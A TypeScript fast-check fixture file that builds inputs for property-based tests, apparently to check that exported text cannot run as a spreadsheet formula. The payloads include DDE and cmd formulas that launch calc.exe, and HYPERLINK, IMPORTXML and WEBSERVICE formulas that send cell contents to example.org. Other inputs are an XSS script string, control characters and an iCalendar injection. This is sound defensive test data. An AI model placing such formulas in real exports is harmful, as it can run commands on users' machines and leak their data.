import fc from 'fast-check';

const SIGNS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u00a0=',
  '\u200b=',
  '＝',
  '＋',
  '－',
  '＠',
  "'=",
];
const BODIES = [
  '1+1',
  'SUM(A1:A9)',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://example.org/?x="&A1,"open")',
  'IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
  'WEBSERVICE("http://example.org/")',
  'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "rundll32|'URL.dll,OpenURL calc.exe'!A",
  'MSEXCEL|\'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe\'!""',
  "1+1+cmd|' /C calc'!A0",
  'A1&B1',
  '-2+3',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  'IF(1;2;3)',
];

/** More than two hundred texts that a spreadsheet would run. */
export const FORMULAS: readonly string[] = SIGNS.flatMap((sign) => BODIES.map((body) => sign + body));

/** What a person may have typed or pasted: other directions, pictures, broken characters, markup, very long. */
export const HOSTILE: readonly string[] = [
  'שלום עולם, مرحبا',
  '👩🏽‍💻 ﷽ 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 🇨🇭',
  'half of a pair \ud83d here',
  'and the other \ude00',
  'line one\nline two\r\nline three\rline four',
  '# heading **bold** <script>alert(1)</script> [a](javascript:alert(1)) `code` ~~gone~~ | cell',
  '1. not a list',
  '- not a list either',
  'quoted "twice", and; parted\\by',
  'x'.repeat(300),
  '👩🏽‍💻'.repeat(40),
  '\u202eturned\u202c \u0000\u0007\u001b[31m',
  'BEGIN:VEVENT\r\nSUMMARY:smuggled\r\nEND:VEVENT',
  '',
];

/** Any text at all, hostile ones often. */
export const anyText = fc.oneof(
  fc.constantFrom(...HOSTILE, ...FORMULAS),
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc
    .array(fc.constantFrom(...'=+-@\'",;\t\r\n x1\ud83d\ude00'), { maxLength: 12 })
    .map((signs) => signs.join('')),
);
